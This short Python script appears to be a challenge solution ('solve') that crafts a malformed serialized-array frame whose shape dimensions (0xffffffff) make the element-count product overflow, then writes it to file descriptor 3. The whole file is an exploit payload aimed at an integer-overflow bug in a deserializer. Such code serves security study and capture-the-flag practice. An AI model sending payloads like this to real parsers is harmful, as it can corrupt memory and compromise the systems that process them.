import os
import struct


def frame(kind, value=b"N"):
    return struct.pack("<I", len(kind) + len(value)) + kind + value


# A shape whose product overflows, with four bytes of data.
def solve(where):
    body = b"a\x03<f8\x04" + b"\xff\xff\xff\xff" * 4 + b"1234"
    os.write(3, frame(b"V", b"m\x01\0\0\0s\x05\0\0\0value" + body))
    os._exit(0)
